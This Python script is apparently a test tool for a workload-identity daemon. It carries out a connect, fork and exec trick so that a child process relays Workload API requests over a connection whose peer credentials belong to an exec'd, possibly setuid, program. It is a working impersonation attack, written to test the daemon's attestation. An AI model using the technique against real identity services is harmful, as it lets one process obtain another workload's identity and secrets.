"""An attacker's trick, for tests: connect to the Workload API, hand the connection to a forked
child, then exec another program in the process that connected.

usage: exec_after_connect.py DAEMON_SOCKET BRIDGE_SOCKET PROGRAM [ARGS...]  (argv[0] is PROGRAM)
       PROGRAM "--stay": no exec (a control: the relay itself works)
       PROGRAM "--later" PROGRAM [ARGS...]: the bridge is ready at once, and the exec comes when a
       line arrives on stdin (an exec while a stream is open on the connection)

The parent connects to DAEMON_SOCKET, waits until the daemon has accepted, forks, and execs PROGRAM (for example a setuid copy of
`sleep`). The child waits until that exec has happened (the close-on-exec end of a pipe closes),
then listens on BRIDGE_SOCKET, prints "ready PARENT_PID" and relays one client connection to the
inherited daemon connection, so an ordinary Workload API client can speak over the connection
whose peer credentials belong to the exec'd process.
"""

import os
import select
import socket
import sys
import time


def relay(a, b):
    socks = [a, b]
    while True:
        readable, _, _ = select.select(socks, [], [], 30)
        if not readable:
            return
        for s in readable:
            data = s.recv(65536)
            if not data:
                return
            (b if s is a else a).sendall(data)


def main():
    daemon_sock, bridge_path, program, args = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[3:]
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.connect(daemon_sock)
    # The daemon records the executable when it accepts (an exec before that is invisible: the
    # kernel keeps no record), and sends its HTTP/2 SETTINGS right after. Wait for those bytes
    # without consuming them (the relayed client reads them later), so the exec below always
    # comes after the accept, however loaded the machine.
    conn.settimeout(10)
    conn.recv(1, socket.MSG_PEEK)
    conn.settimeout(None)
    r, w = os.pipe()  # both ends are close-on-exec (PEP 446)
    parent = os.getpid()
    later = program == "--later"
    if os.fork() == 0:
        os.close(w)
        # EOF once the parent's exec closed its write end (or it died).
        while not later and os.read(r, 1):
            pass
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(bridge_path)
        os.chmod(bridge_path, 0o777)
        listener.listen(1)
        print(f"ready {parent}", flush=True)
        client, _ = listener.accept()
        relay(client, conn)
        os._exit(0)
    os.close(r)
    conn.close()  # the parent's copy: only the child's remains
    if program == "--stay":
        # Control: no exec at all; the connecting process just stays alive as it was.
        os.close(w)
        time.sleep(30)
        os._exit(0)
    if later:
        sys.stdin.readline()
        program, args = args[1], args[1:]
    os.execv(program, args)


main()
